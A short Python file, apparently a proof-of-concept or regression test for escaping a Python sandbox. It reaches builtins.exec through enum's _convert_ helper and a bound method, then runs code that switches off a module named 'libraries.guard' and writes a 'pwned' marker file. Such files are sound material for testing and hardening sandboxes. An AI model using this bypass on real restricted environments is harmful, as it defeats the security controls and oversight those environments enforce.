"""file: a bound method whose function is exec and whose object is code."""

import enum
import types

CODE = """\
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_converted_members_method", "w").close()
"""


class Kind(enum.Flag):
    pass


Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")
run = types.MethodType(getattr(Found, "exec").value, CODE)
x = run()
